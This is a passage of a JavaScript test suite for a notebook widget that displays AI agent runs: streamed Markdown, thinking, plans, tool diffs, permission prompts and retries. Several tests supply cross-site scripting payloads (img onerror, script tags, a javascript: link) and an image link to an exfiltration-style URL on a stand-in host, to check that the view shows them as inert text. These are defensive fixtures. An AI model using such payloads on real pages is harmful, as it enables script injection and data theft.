// The run view, with a fake server, a fake hub and a fake host.
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { afterEach, beforeEach, test } from "node:test";

import { installPage, sleep, until } from "./dom.mjs";

const { MIME_TYPE } = await import("../src/record.js");
installPage();
const { MARKDOWN_INTERVAL_MS, ModelSync, RunView, eventSummary, formatAgo, formatDuration, modelHost } = await import("../src/view.js");
const { MAX_MARKDOWN_CHARS } = await import("../src/markdown.js");
const { MAX_TOOL_TEXT_CHARS } = await import("../src/dom.js");

const RUN = "run_view";
const TS = "2026-01-01T00:00:00.000Z";

function runObject(fields = {}) {
  return {
    run_id: RUN, agent: "demo", status: "running", session: null, metadata: {}, input: { prompt: "hi" },
    retry_of: null, created_at: new Date(Date.now() - 180_000).toISOString(), started_at: new Date(Date.now() - 179_000).toISOString(), finished_at: null,
    last_seq: 1, first_seq: 1,
    snapshot: { messages: [], tools: [], progress: null, usage: null }, output: null, error: null, cancel: null,
    ...fields,
  };
}

/** A server answering GET runs/{id}, POST runs and POST cancel from a table of handlers. */
function fakeServer(routes) {
  const requests = [];
  globalThis.fetch = async (url, init = {}) => {
    const request = { url, method: init.method || "GET", headers: init.headers || {}, body: init.body ? JSON.parse(init.body) : null };
    requests.push(request);
    const key = `${request.method} ${new URL(url, "http://x").pathname}`;
    const handler = routes[key];
    if (!handler) return Response.json({ error: "run_not_found", message: "no" }, { status: 404 });
    return handler(request);
  };
  return requests;
}

/** The page's hub, replaced by one the test drives. */
function fakeHub() {
  const hub = { listeners: new Map(), cursors: new Map() };
  hub.register = (runId, cursor, listener) => {
    hub.listeners.set(runId, listener);
    hub.cursors.set(runId, cursor);
    return () => hub.listeners.delete(runId);
  };
  globalThis.__jupyterAgentrunsHub = hub;
  return hub;
}

function fakeHost(fields = {}) {
  const host = {
    id: RUN, saves: [], ranAgainWith: [], callbacks: new Set(), reattachedValue: false, followedValue: "", record: null,
    runId: () => host.id,
    baseUrl: () => null,
    reattached: () => host.reattachedValue,
    followed: () => host.followedValue,
    savedRecord: () => host.record,
    subscribe(callback) {
      host.callbacks.add(callback);
      return () => host.callbacks.delete(callback);
    },
    save: (...args) => host.saves.push(args),
    ranAgain: (run, previous) => host.ranAgainWith.push([run, previous]),
    changed: () => host.callbacks.forEach((callback) => callback()),
    ...fields,
  };
  return host;
}

let seq;
function event(type, data = {}) {
  seq += 1;
  return { run_id: RUN, seq, type, ts: new Date().toISOString(), data };
}

let hub;
let view;
let el;

beforeEach(() => {
  seq = 1;
  hub = fakeHub();
  el = document.createElement("div");
  document.body.replaceChildren(el);
});

afterEach(() => {
  if (view) view.dispose();
  view = null;
  delete globalThis.__jupyterAgentrunsHub;
});

async function shown(host, run = runObject()) {
  fakeServer({ [`GET /api/agentruns/runs/${RUN}`]: () => Response.json(run) });
  view = new RunView(host, el);
  view.attach(host.runId());
  await until(() => root().dataset.status === run.status, { what: `run ${run.run_id} shown as ${run.status}` });
  return view;
}

const root = () => el.querySelector(".agentruns-run");
const text = (selector) => el.querySelector(selector)?.textContent ?? null;

test("a loaded run shows its status, run id and data attributes", async (t) => {
  // The clock stands still while the view loads: "2 min 59 s" however long a busy machine takes to draw it.
  const now = Date.now();
  const realNow = Date.now;
  Date.now = () => now;
  t.after(() => (Date.now = realNow));
  await shown(fakeHost());
  Date.now = realNow;
  assert.equal(root().dataset.runId, RUN);
  assert.equal(root().dataset.status, "running");
  assert.equal(root().dataset.lastSeq, "1");
  assert.equal(text(".agentruns-chip"), "running");
  assert.equal(text(".agentruns-run-id"), RUN);
  assert.ok(el.querySelector(".agentruns-copy"));
  assert.equal(el.querySelector(".agentruns-cancel").hidden, false);
  assert.equal(el.querySelector(".agentruns-again").hidden, true);
  assert.match(text(".agentruns-elapsed"), /· running for 2 min 59 s$/);
  assert.equal(hub.cursors.get(RUN), 1, "it follows the run from the snapshot's last_seq");
});

test("streamed text renders as Markdown, re-rendered at most about ten times a second", async () => {
  await shown(fakeHost());
  const listener = hub.listeners.get(RUN);
  listener.onEvent(event("message.started", { message_id: "m1", role: "assistant" }));
  listener.onEvent(event("text.delta", { message_id: "m1", delta: "# Title\n\n" }));
  await until(() => el.querySelector(".agentruns-markdown h1"));
  const body = el.querySelector(".agentruns-markdown");
  assert.equal(body.querySelector("h1").textContent, "Title");
  let renders = 0;
  const observer = new window.MutationObserver((records) => (renders += records.length > 0 ? 1 : 0));
  observer.observe(body, { childList: true });
  const start = Date.now();
  for (let i = 0; i < 40; i++) {
    listener.onEvent(event("text.delta", { message_id: "m1", delta: `- item ${i}\n` }));
    await sleep(5); // deltas 5 ms apart: faster than renders may come
  }
  await until(() => body.querySelectorAll("li").length === 40, { what: "the last text rendered" });
  observer.disconnect();
  // At most one render per interval of the time that passed (about 0.35 s unless the machine is slow).
  const elapsed = Date.now() - start;
  assert.ok(renders <= Math.max(6, Math.ceil(elapsed / MARKDOWN_INTERVAL_MS) + 2), `${renders} renders of 40 deltas in ${elapsed} ms`);
  assert.equal(body.querySelectorAll("li").length, 40, "the last text is always rendered");
});

test("a message's HTML is shown as text and its images as links: the view runs and fetches nothing", async () => {
  await shown(fakeHost());
  const listener = hub.listeners.get(RUN);
  listener.onEvent(event("message.started", { message_id: "m1" }));
  listener.onEvent(event("text.delta", {
    message_id: "m1",
    delta: '<img src=x onerror="globalThis.pwned=1"><script>globalThis.pwned=2</script>[x](javascript:alert(1)) ![chart](http://127.0.0.1:9/exfil?secret=x)',
  }));
  listener.onEvent(event("message.completed", { message_id: "m1" }));
  await until(() => el.querySelector(".agentruns-markdown a"));
  const body = el.querySelector(".agentruns-markdown");
  assert.equal(body.querySelector("script, img"), null);
  assert.match(body.textContent, /<img src=x onerror="globalThis.pwned=1"><script>/);
  const [script, image] = body.querySelectorAll("a");
  assert.equal(script.hasAttribute("href"), false);
  assert.equal(image.textContent, "chart");
  assert.equal(image.getAttribute("href"), "http://127.0.0.1:9/exfil?secret=x");
});

test("every field a run holds is shown as text: tools, questions, errors and usage", async () => {
  const hostile = '<img src="http://127.0.0.1:9/x" onerror="globalThis.pwned=1"> ![i](http://127.0.0.1:9/y)';
  const snapshot = {
    messages: [],
    tools: [
      { call_id: "c1", name: hostile, args: { q: hostile }, status: "failed", result: null, error: { type: hostile, message: hostile } },
      { call_id: "c2", name: "lookup", args: {}, status: "completed", result: hostile },
    ],
    inputs: [{ request_id: "in_a", kind: "choice", title: hostile, details: hostile, choices: [hostile, "no"], status: "open", choice: null }],
    progress: { fraction: 0.5, message: hostile },
    usage: { input_tokens: hostile, output_tokens: 3 },
  };
  await shown(fakeHost(), runObject({ agent: hostile, status: "failed", error: { type: hostile, message: hostile }, snapshot }));
  assert.equal(el.querySelector("img, script, iframe, svg"), null);
  assert.ok(el.textContent.includes('<img src="http://127.0.0.1:9/x" onerror="globalThis.pwned=1">'));
  assert.equal(text(".agentruns-input-title"), hostile);
});

test("a very long text is shown as plain text", async () => {
  const long = "x".repeat(MAX_MARKDOWN_CHARS + 1);
  await shown(fakeHost(), runObject({ snapshot: { messages: [{ id: "m1", role: "assistant", text: long, done: false }], tools: [], progress: null, usage: null } }));
  const pre = el.querySelector(".agentruns-markdown pre.agentruns-plain");
  assert.ok(pre);
  assert.equal(pre.textContent.length, long.length);
  hub.listeners.get(RUN).onEvent(event("text.delta", { message_id: "m1", delta: "# tail" }));
  await until(() => pre.textContent.length > long.length);
  assert.ok(pre.textContent.endsWith("# tail"), "appended, not parsed");
});

test("progress is never an empty bar while text streams, and is gone once the run ended", async () => {
  await shown(fakeHost());
  const listener = hub.listeners.get(RUN);
  listener.onEvent(event("progress", { fraction: 0, message: "searching" }));
  listener.onEvent(event("message.started", { message_id: "m1" }));
  listener.onEvent(event("text.delta", { message_id: "m1", delta: "Hello" }));
  await until(() => el.querySelector(".agentruns-progress")?.classList.contains("agentruns-progress--indeterminate"));
  const progress = el.querySelector(".agentruns-progress");
  assert.ok(progress.classList.contains("agentruns-progress--indeterminate"));
  listener.onEvent(event("progress", { fraction: 0.4, message: "writing" }));
  await until(() => el.querySelector(".agentruns-progress-fill").style.width === "40%");
  assert.equal(progress.classList.contains("agentruns-progress--indeterminate"), false);
  assert.equal(el.querySelector(".agentruns-progress-fill").style.width, "40%");
  listener.onEvent(event("run.cancel_requested", { reason: "enough" }));
  listener.onEvent(event("run.cancelled", { reason: "enough", stage: { seq: 5, step: "message m1 streaming" } }));
  await until(() => root().dataset.status === "cancelled");
  assert.equal(root().dataset.status, "cancelled");
  // Cancelled while it wrote: it is not "writing" any more, nor at 40% of anything.
  assert.equal(progress.hidden, true);
  assert.equal(text(".agentruns-detail"), "cancelled: enough");
  assert.equal(el.querySelector(".agentruns-again").hidden, false);
  assert.equal(el.querySelector(".agentruns-cancel").hidden, true);
});

test("every terminal status shows with its reason", async () => {
  const cases = [
    [{ status: "failed", error: { type: "DemoFailure", message: "asked to fail" } }, "failed", "DemoFailure: asked to fail"],
    [{ status: "interrupted" }, "interrupted", ""],
    [{ status: "succeeded", output: { answer: 42 } }, "succeeded", ""],
  ];
  for (const [fields, chip, detail] of cases) {
    await shown(fakeHost(), runObject({ ...fields, finished_at: new Date().toISOString() }));
    assert.equal(text(".agentruns-chip"), chip);
    assert.equal(text(".agentruns-detail"), detail);
    assert.match(text(".agentruns-elapsed"), /took/);
    view.dispose();
    el.replaceChildren();
  }
});

test("a run waiting in its session's queue says behind which run; an interrupted one by which", async () => {
  await shown(fakeHost(), runObject({ status: "queued", last_seq: 0, session: "s", queued_behind: "run_first" }));
  assert.equal(text(".agentruns-chip"), "queued");
  assert.equal(text(".agentruns-detail"), "queued behind run_first");
  view.dispose();
  el.replaceChildren();
  const cancel = { requested_at: TS, reason: { interrupted_by: "run_next" }, stage: { seq: 3, step: "started" } };
  await shown(fakeHost(), runObject({ status: "cancelled", cancel, finished_at: TS }));
  assert.equal(text(".agentruns-detail"), "cancelled: interrupted by run_next");
});

test("a run just taken over says it was resumed, with its attempt, for a while", async () => {
  await shown(fakeHost(), runObject({ status: "running", last_seq: 1 }));
  const now = new Date().toISOString();
  view.state.applyEnvelope({ run_id: RUN, seq: 2, type: "run.resumed", ts: now, data: { attempt: 2, reason: "lease_expired", from_seq: 1 } });
  view._render();
  assert.equal(text(".agentruns-chip"), "running");
  assert.equal(text(".agentruns-detail"), "resumed (attempt 2)");
  view.state.resumedAt = new Date(Date.now() - 60000).toISOString(); // a minute later
  view._renderClock(); // the clock's tick puts the header back
  assert.equal(text(".agentruns-detail"), "");
  view.dispose();
});

test("an open question shows a button per choice; a click posts the choice; the answer replaces them", async () => {
  const question = { request_id: "in_q", kind: "approval", title: "Send the mail?", details: { to: "team@example.com" }, choices: ["approve", "deny"], status: "open", choice: null };
  const requests = fakeServer({
    [`GET /api/agentruns/runs/${RUN}`]: () => Response.json(runObject({ status: "waiting", snapshot: { messages: [], tools: [], progress: null, usage: null, inputs: [question] } })),
    [`POST /api/agentruns/runs/${RUN}/inputs/in_q`]: () => Response.json(runObject({ status: "running" })),
  });
  const host = fakeHost();
  view = new RunView(host, el);
  view.attach(RUN);
  await until(() => el.querySelector(".agentruns-choice"));
  assert.equal(text(".agentruns-chip"), "waiting");
  assert.equal(text(".agentruns-input-title"), "Send the mail?");
  assert.match(text(".agentruns-input-details"), /team@example\.com/);
  const buttons = [...el.querySelectorAll(".agentruns-choice")];
  assert.deepEqual(buttons.map((node) => node.textContent), ["approve", "deny"]);
  buttons[0].click();
  await until(() => requests.find((request) => request.method === "POST"));
  const post = requests.find((request) => request.method === "POST");
  assert.equal(new URL(post.url, "http://x").pathname, `/api/agentruns/runs/${RUN}/inputs/in_q`);
  assert.deepEqual(post.body, { choice: "approve" });
  seq = 1;
  hub.listeners.get(RUN).onEvent(event("input.resolved", { request_id: "in_q", choice: "approve", note: null, by: "alice" }));
  await until(() => el.querySelector(".agentruns-input-answer"));
  assert.equal(el.querySelectorAll(".agentruns-choice").length, 0);
  assert.equal(text(".agentruns-input-answer"), "approved by alice");
  assert.equal(el.querySelector(".agentruns-input").dataset.status, "resolved");
});

const snapshotWith = (fields) => ({ messages: [], tools: [], progress: null, usage: null, ...fields });

test("the model's thinking is folded under Thinking, its newest words on the folded line while it goes on", async () => {
  await shown(fakeHost(), runObject({ snapshot: snapshotWith({ reasoning: "Look at **the file** first, " }) }));
  const thinking = el.querySelector(".agentruns-thinking");
  assert.equal(thinking.hidden, false);
  assert.equal(thinking.open, false, "closed until the reader opens it");
  assert.equal(text(".agentruns-thinking-label"), "Thinking");
  assert.equal(text(".agentruns-thinking-preview"), "Look at **the file** first,");
  assert.equal(el.querySelector(".agentruns-reasoning").childElementCount, 0, "not drawn while folded");

  const listener = hub.listeners.get(RUN);
  listener.onEvent(event("reasoning.delta", { message_id: "m1", delta: "then change it." }));
  await until(() => /then change it\.$/.test(text(".agentruns-thinking-preview")));
  assert.match(text(".agentruns-thinking-preview"), /then change it\.$/);
  el.querySelector(".agentruns-thinking > summary").click();
  await until(() => el.querySelector(".agentruns-reasoning strong"));
  const body = el.querySelector(".agentruns-reasoning");
  assert.equal(body.querySelector("strong").textContent, "the file", "Markdown, as messages are");
  assert.match(body.textContent.trim(), /then change it\.$/);

  // Open, it follows the thinking as it streams.
  listener.onEvent(event("reasoning.delta", { message_id: "m1", delta: " And test it." }));
  await until(() => /And test it\.$/.test(body.textContent.trim()), { what: "the open thinking to follow its stream" });
  assert.match(body.textContent.trim(), /And test it\.$/);

  // The answer has begun: the thinking is over, its folded line says no more.
  listener.onEvent(event("message.started", { message_id: "m2" }));
  listener.onEvent(event("text.delta", { message_id: "m2", delta: "Done." }));
  await until(() => el.querySelector(".agentruns-markdown"));
  assert.equal(text(".agentruns-thinking-preview"), "");
  assert.equal(thinking.classList.contains("agentruns-thinking--live"), false);
  assert.equal(el.querySelector(".agentruns-markdown").textContent.trim(), "Done.", "the answer is the message, not the thinking");
});

test("a run without thinking shows no Thinking; thinking's HTML is text, and a very long one plain text", async () => {
  await shown(fakeHost());
  assert.equal(el.querySelector(".agentruns-thinking").hidden, true);
  view.dispose();
  el.replaceChildren();
  const hostile = '<img src="http://127.0.0.1:9/x" onerror="globalThis.pwned=1"> ![i](http://127.0.0.1:9/y)';
  await shown(fakeHost(), runObject({ snapshot: snapshotWith({ reasoning: hostile }) }));
  el.querySelector(".agentruns-thinking").open = true;
  await until(() => el.querySelector(".agentruns-reasoning").childNodes.length > 0, { what: "the opened thinking drawn" });
  assert.equal(el.querySelector("img, script"), null);
  assert.match(el.querySelector(".agentruns-reasoning").textContent, /<img src="http:\/\/127\.0\.0\.1:9\/x" onerror=/);
  view.dispose();
  el.replaceChildren();
  const long = "x".repeat(MAX_MARKDOWN_CHARS + 1);
  await shown(fakeHost(), runObject({ snapshot: snapshotWith({ reasoning: long }) }));
  el.querySelector(".agentruns-thinking").open = true;
  await until(() => el.querySelector(".agentruns-reasoning pre.agentruns-plain"));
  assert.equal(el.querySelector(".agentruns-reasoning pre.agentruns-plain").textContent.length, long.length);
});

test("a run that never had a plan shows no plan box", async () => {
  await shown(fakeHost());
  assert.equal(el.querySelector(".agentruns-plan").hidden, true);
});

test("the plan is a checklist that each update replaces: done, in progress, to do, with priorities", async () => {
  const plan = [
    { content: "Read data.csv", status: "in_progress", priority: "high" },
    { content: "Plot the mean", status: "pending" },
  ];
  await shown(fakeHost(), runObject({ snapshot: snapshotWith({ plan }) }));
  const entries = () =>
    [...el.querySelectorAll(".agentruns-plan-entry")].map((entry) => [
      entry.dataset.status,
      entry.querySelector(".agentruns-plan-mark").getAttribute("aria-label"),
      entry.querySelector(".agentruns-plan-content").textContent,
      entry.querySelector(".agentruns-plan-priority")?.textContent ?? null,
    ]);
  assert.equal(text(".agentruns-plan-title"), "Plan");
  assert.equal(text(".agentruns-plan-count"), "0 of 2 done");
  assert.deepEqual(entries(), [
    ["in_progress", "in progress", "Read data.csv", "high"],
    ["pending", "to do", "Plot the mean", null],
  ]);
  hub.listeners.get(RUN).onEvent(event("plan.updated", {
    entries: [{ content: "Read data.csv", status: "completed", priority: "high" }, { content: "Plot the mean", status: "in_progress" }],
  }));
  await until(() => text(".agentruns-plan-count") === "1 of 2 done");
  assert.equal(text(".agentruns-plan-count"), "1 of 2 done");
  assert.deepEqual(entries().map(([status, words]) => [status, words]), [["completed", "done"], ["in_progress", "in progress"]]);
  hub.listeners.get(RUN).onEvent(event("plan.updated", { entries: [] }));
  await until(() => el.querySelector(".agentruns-plan").hidden);
  assert.equal(el.querySelector(".agentruns-plan").hidden, true);
});

test("a tool step shows its kind and title, its text preformatted and its diff; without a title its name as before", async () => {
  const tools = [
    { call_id: "c1", name: "read", args: { path: "a.py" }, status: "completed", result: null, kind: "read", title: "Read a.py",
      content: [{ type: "text", text: "x = 1\n  indented" }] },
    { call_id: "c2", name: "edit", args: {}, status: "completed", result: null, kind: "edit", title: "Edit a.py",
      content: [{ type: "diff", path: "a.py", old_text: "x = 1\n", new_text: "x = 2\n" }] },
    { call_id: "c3", name: "get_weather", args: { city: "Shanghai" }, status: "running", result: null },
  ];
  await shown(fakeHost(), runObject({ snapshot: snapshotWith({ tools }) }));
  const cards = [...el.querySelectorAll(".agentruns-tool")];
  assert.deepEqual(cards.map((card) => card.querySelector(".agentruns-tool-kind")?.textContent ?? null), ["read", "edit", null]);
  assert.deepEqual(cards.map((card) => card.querySelector(".agentruns-tool-title")?.textContent ?? null), ["Read a.py", "Edit a.py", null]);
  assert.equal(cards[2].querySelector(".agentruns-tool-name").textContent, "get_weather");
  assert.equal(cards[2].querySelector(".agentruns-tool-args").textContent, '{"city":"Shanghai"}');
  assert.equal(cards[0].querySelector("pre.agentruns-tool-text").textContent, "x = 1\n  indented");
  const diff = cards[1].querySelector(".agentruns-diff");
  assert.equal(diff.querySelector(".agentruns-diff-path").textContent, "a.py");
  assert.deepEqual([...diff.querySelectorAll(".agentruns-diff-line")].map((line) => line.textContent), ["@@ -1 +1 @@", "-x = 1", "+x = 2"]);
});

test("a tool step's content arrives with its completion; text beyond the bound is cut and says how much", async () => {
  await shown(fakeHost());
  const listener = hub.listeners.get(RUN);
  listener.onEvent(event("tool.started", { call_id: "c1", name: "bash", args: { cmd: "ls" }, kind: "execute", title: "Run ls" }));
  await until(() => el.querySelector(".agentruns-tool"));
  assert.equal(el.querySelector(".agentruns-tool-content"), null);
  listener.onEvent(event("tool.completed", { call_id: "c1", ok: true, content: [{ type: "text", text: "y".repeat(MAX_TOOL_TEXT_CHARS + 7) }] }));
  await until(() => el.querySelector(".agentruns-tool-text"));
  const shownText = el.querySelector(".agentruns-tool-text").textContent;
  assert.ok(shownText.startsWith("y".repeat(MAX_TOOL_TEXT_CHARS)));
  assert.ok(shownText.endsWith("\n… 7 more characters"));
  assert.equal(el.querySelector(".agentruns-tool").classList.contains("agentruns-tool--completed"), true);
});

test("a permission question's buttons are the agent's option names; a click posts the option's id; the answer names it", async () => {
  const question = {
    request_id: "in_p", kind: "permission", title: "Edit a.py?", choices: ["allow-1", "always-1", "reject-1"], status: "open", choice: null,
    details: {
      options: [
        { optionId: "allow-1", name: "Allow once", kind: "allow_once" },
        { optionId: "always-1", name: "Always allow", kind: "allow_always" },
        { optionId: "reject-1", name: "Reject", kind: "reject_once" },
      ],
      tool: { title: "Edit a.py", kind: "edit", content: [{ type: "diff", path: "a.py", old_text: "x = 1\n", new_text: "x = 2\n" }] },
    },
  };
  const requests = fakeServer({
    [`GET /api/agentruns/runs/${RUN}`]: () => Response.json(runObject({ status: "waiting", snapshot: snapshotWith({ inputs: [question] }) })),
    [`POST /api/agentruns/runs/${RUN}/inputs/in_p`]: () => Response.json(runObject({ status: "running" })),
  });
  view = new RunView(fakeHost(), el);
  view.attach(RUN);
  await until(() => el.querySelector(".agentruns-choice"));
  const card = el.querySelector(".agentruns-input");
  assert.equal(card.querySelector(".agentruns-input-details"), null, "no options as JSON");
  assert.equal(card.querySelector(".agentruns-input-tool .agentruns-tool-kind").textContent, "edit");
  assert.equal(card.querySelector(".agentruns-input-tool-title").textContent, "Edit a.py");
  assert.deepEqual([...card.querySelectorAll(".agentruns-diff-line")].map((line) => line.textContent), ["@@ -1 +1 @@", "-x = 1", "+x = 2"]);
  const buttons = [...card.querySelectorAll(".agentruns-choice")];
  assert.deepEqual(buttons.map((node) => [node.textContent, node.dataset.choice, node.className.split(" ").at(-1)]), [
    ["Allow once", "allow-1", "agentruns-choice--allow"],
    ["Always allow", "always-1", "agentruns-choice--allow"],
    ["Reject", "reject-1", "agentruns-choice--reject"],
  ]);
  buttons[1].click();
  await until(() => requests.find((request) => request.method === "POST"));
  assert.deepEqual(requests.find((request) => request.method === "POST").body, { choice: "always-1" });
  seq = 1;
  hub.listeners.get(RUN).onEvent(event("input.resolved", { request_id: "in_p", choice: "always-1", note: null, by: "alice" }));
  await until(() => el.querySelector(".agentruns-input-answer"));
  assert.equal(text(".agentruns-input-answer"), "Always allow by alice");
});

test("the snapshots of the shared vectors of a coding agent's turn and of a permission render whole", async () => {
  const vector = (name) => JSON.parse(readFileSync(new URL(`../../tests/vectors/${name}`, import.meta.url), "utf8")).snapshot;
  await shown(fakeHost(), runObject({ status: "succeeded", snapshot: vector("acp_turn.json") }));
  assert.equal(el.querySelector(".agentruns-thinking").hidden, false);
  assert.equal(text(".agentruns-plan-count"), "2 of 2 done");
  assert.deepEqual([...el.querySelectorAll(".agentruns-tool-title")].map((node) => node.textContent), ["Read data.csv", "Edit plot.py"]);
  assert.equal(text(".agentruns-tool-text"), "a,b\n1,2");
  assert.equal(text(".agentruns-diff-path"), "plot.py");
  view.dispose();
  el.replaceChildren();
  await shown(fakeHost(), runObject({ status: "succeeded", snapshot: vector("permission.json") }));
  assert.equal(text(".agentruns-input-answer"), "allowed by alice");
  assert.equal(text(".agentruns-input-tool-title"), "Edit plot.py");
});

test("usage shows tokens, and a cost when the agent's prices give one", async () => {
  const usage = { input_tokens: 1200, output_tokens: 340, cost: 0.00038 };
  await shown(fakeHost(), runObject({ snapshot: { messages: [], tools: [], progress: null, usage } }));
  assert.equal(text(".agentruns-usage"), "tokens: 1200 in · 340 out · cost 0.00038");
  view.dispose();
  el.replaceChildren();
  await shown(fakeHost(), runObject({ snapshot: { messages: [], tools: [], progress: null, usage: { ...usage, cost: 1.5 } } }));
  assert.equal(text(".agentruns-usage"), "tokens: 1200 in · 340 out · cost 1.50");
});

test("usage that is not token counts shows as unknown, never raw", async () => {
  const usage = { input_tokens: -1000, output_tokens: 1e21, cost: -3 };
  await shown(fakeHost(), runObject({ snapshot: { messages: [], tools: [], progress: null, usage } }));
  assert.equal(text(".agentruns-usage"), "tokens: ? in · ? out");
});

test("agent-defined events are one line each, with the whole data on a click", async () => {
  await shown(fakeHost());
  hub.listeners.get(RUN).onEvent(event("x.chart", { title: "Rain", points: [1, 2, 3], note: "y".repeat(300) }));
  await until(() => el.querySelector(".agentruns-events details.agentruns-event"));
  const line = el.querySelector(".agentruns-events details.agentruns-event");
  assert.equal(line.querySelector(".agentruns-event-type").textContent, "x.chart");
  const summary = line.querySelector(".agentruns-event-summary").textContent;
  assert.match(summary, /^title=Rain · points=\[1,2,3\] · note=y+…$/);
  assert.ok(summary.length < 100);
  assert.deepEqual(JSON.parse(line.querySelector("pre").textContent).points, [1, 2, 3]);
});

test("re-attached and followed runs say so", async () => {
  const host = fakeHost();
  host.reattachedValue = true;
  await shown(host);
  assert.equal(text(".agentruns-note"), `re-attached to ${RUN} (started 3 min ago)`);
  host.followedValue = "run_first";
  host.changed();
  await until(() => text(".agentruns-note").startsWith("following"));
  assert.equal(text(".agentruns-note"), `following ${RUN} (Run again of run_first)`);
});

test("a re-run cell that found its run again says so in the header, and how to get a new one", async () => {
  const host = fakeHost();
  host.reattachedValue = true;
  await shown(host);
  assert.equal(el.querySelector(".agentruns-header .agentruns-same").hidden, false);
  assert.equal(text(".agentruns-same"), "the same run as before, still going");
  view.dispose();
  el.replaceChildren();
  await shown(host, runObject({ status: "succeeded", finished_at: new Date().toISOString() }));
  assert.equal(text(".agentruns-same"), "the same run as before: Run again for a new one");
  host.followedValue = "run_first";
  host.changed();
  await until(() => el.querySelector(".agentruns-same").hidden);
  assert.equal(el.querySelector(".agentruns-same").hidden, true, "Run again made a new run");
  view.dispose();
  el.replaceChildren();
  await shown(fakeHost());
  assert.equal(el.querySelector(".agentruns-same").hidden, true);
});

test("the header says what the run was asked, as text", async () => {
  const hostile = '<img src=x onerror="globalThis.pwned=1"> report';
  await shown(fakeHost(), runObject({ metadata: { title: hostile } }));
  assert.equal(text(".agentruns-header .agentruns-title"), hostile);
  assert.equal(el.querySelector("img"), null);
  assert.equal(el.querySelector(".agentruns-plan").hidden, true, "no plan, no empty box");
  view.dispose();
  el.replaceChildren();
  await shown(fakeHost(), runObject({ input: { prompt: "Summarise the notes\nin three lines" } }));
  assert.equal(text(".agentruns-title"), "Summarise the notes");
  view.dispose();
  el.replaceChildren();
  await shown(fakeHost(), runObject({ input: {} }));
  assert.equal(el.querySelector(".agentruns-title").hidden, true, "the agent's name is not said twice");
});

test("the header says how a run went in the same words as everywhere", async () => {
  const finished = new Date().toISOString();
  // Queued, then cancelled before it ever started: it never started, it did not "take" any time.
  await shown(fakeHost(), runObject({ status: "cancelled", started_at: null, finished_at: finished, cancel: { requested_at: finished, reason: "cancelled from the notebook", stage: null } }));
  assert.match(text(".agentruns-elapsed"), /· never started$/);
  assert.equal(text(".agentruns-detail"), "cancelled from the notebook");
  view.dispose();
  el.replaceChildren();
  // Denied: the run failed, it is not "at 0%: waiting for approval".
  const inputs = [{ request_id: "in_1", kind: "approval", title: "Write it?", details: null, choices: ["approve", "deny"], status: "resolved", choice: "deny", by: "Anonymous Praxidike" }];
  const denied = runObject({
    status: "failed", finished_at: finished, error: { type: "denied", message: "the request to write the answer was denied" },
    snapshot: { messages: [], tools: [], progress: { fraction: 0, message: "waiting for approval" }, usage: null, inputs },
  });
  await shown(fakeHost(), denied);
  assert.equal(el.querySelector(".agentruns-progress").hidden, true);
  assert.equal(el.textContent.includes("waiting for approval"), false);
  assert.equal(text(".agentruns-input-answer"), "denied");
  view.dispose();
  el.replaceChildren();
  // Waiting: it waits for an answer, it is not "running for" anything.
  await shown(fakeHost(), runObject({ status: "waiting" }));
  assert.match(text(".agentruns-elapsed"), /· waiting for an answer$/);
  view.dispose();
  el.replaceChildren();
  // A question seen being asked dates the wait.
  await shown(fakeHost());
  const asked = event("input.requested", { request_id: "in_2", kind: "approval", title: "More?", details: null, choices: ["approve", "deny"] });
  hub.listeners.get(RUN).onEvent(asked);
  await until(() => /since/.test(text(".agentruns-elapsed")));
  const clock = new Date(asked.ts).toLocaleTimeString([], { hour: "2-digit", minute: "2-digit" });
  assert.match(text(".agentruns-elapsed"), new RegExp(`· waiting for an answer since ${clock}$`));
});

test("a run the server does not have shows the notebook's saved record and says so", async () => {
  const host = fakeHost();
  host.record = "**demo** succeeded\n\n# The answer";
  fakeServer({});
  view = new RunView(host, el);
  view.attach(RUN);
  await until(() => el.querySelector(".agentruns-record"));
  assert.equal(text(".agentruns-chip"), "run not found");
  assert.equal(el.querySelector(".agentruns-record h1").textContent, "The answer");
  assert.match(text(".agentruns-notice"), /no run run_view.*record saved in the notebook/);
});

test("a saved record, whoever wrote the notebook, shows its HTML as text and its images as links", async () => {
  const host = fakeHost();
  host.record = '**demo** failed\n\n<img src=x onerror="globalThis.pwned=1"> ![i](http://127.0.0.1:9/exfil?secret=x)\n\n<sub>run `run_view`</sub>\n';
  fakeServer({});
  view = new RunView(host, el);
  view.attach(RUN);
  await until(() => el.querySelector(".agentruns-record"));
  const record = el.querySelector(".agentruns-record");
  assert.equal(record.querySelector("img, sub"), null);
  assert.match(record.textContent, /<img src=x onerror="globalThis.pwned=1">/);
  assert.equal(record.querySelector("a").getAttribute("href"), "http://127.0.0.1:9/exfil?secret=x");
});

test("Run again posts retry_of with one Idempotency-Key until the server answers", async () => {
  const host = fakeHost();
  await shown(host, runObject({ status: "cancelled", metadata: { cell_id: "c1" } }));
  let attempts = 0;
  const requests = fakeServer({
    [`GET /api/agentruns/runs/${RUN}`]: () => Response.json(runObject({ status: "cancelled", metadata: { cell_id: "c1" } })),
    "POST /api/agentruns/runs": () => {
      attempts += 1;
      if (attempts === 1) throw new TypeError("network down");
      return Response.json(runObject({ run_id: "run_new", status: "queued", retry_of: RUN }), { status: 201 });
    },
  });
  el.querySelector(".agentruns-again").click();
  await until(() => /Run again failed/.test(text(".agentruns-notice")));
  assert.match(text(".agentruns-notice"), /Run again failed: cannot reach the server/);
  el.querySelector(".agentruns-again").click();
  await until(() => host.ranAgainWith.length > 0 && !view.busy, { what: "Run again to be answered" });
  const posts = requests.filter((request) => request.method === "POST");
  assert.equal(posts.length, 2);
  assert.equal(posts[0].headers["Idempotency-Key"], posts[1].headers["Idempotency-Key"]);
  assert.equal(posts[0].headers["X-XSRFToken"], "tok");
  assert.deepEqual(posts[1].body, { agent: "demo", input: { prompt: "hi" }, session: null, metadata: { cell_id: "c1" }, retry_of: RUN });
  assert.equal(host.ranAgainWith.length, 1);
  assert.equal(host.ranAgainWith[0][0].run_id, "run_new");
  assert.equal(host.ranAgainWith[0][1], RUN);
});

test("a host whose run changes re-attaches the view", async () => {
  const host = fakeHost();
  await shown(host);
  fakeServer({ "GET /api/agentruns/runs/run_other": () => Response.json(runObject({ run_id: "run_other", status: "succeeded" })) });
  host.id = "run_other";
  host.changed();
  await until(() => root().dataset.status === "succeeded");
  assert.equal(root().dataset.runId, "run_other");
  assert.equal(root().dataset.status, "succeeded");
});

/** A model as anywidget hands it over, recording what is saved. */
function fakeModel(traits) {
  const handlers = new Map();
  const model = {
    traits: { ...traits },
    saved: [],
    get: (name) => model.traits[name],
    set: (name, value) => {
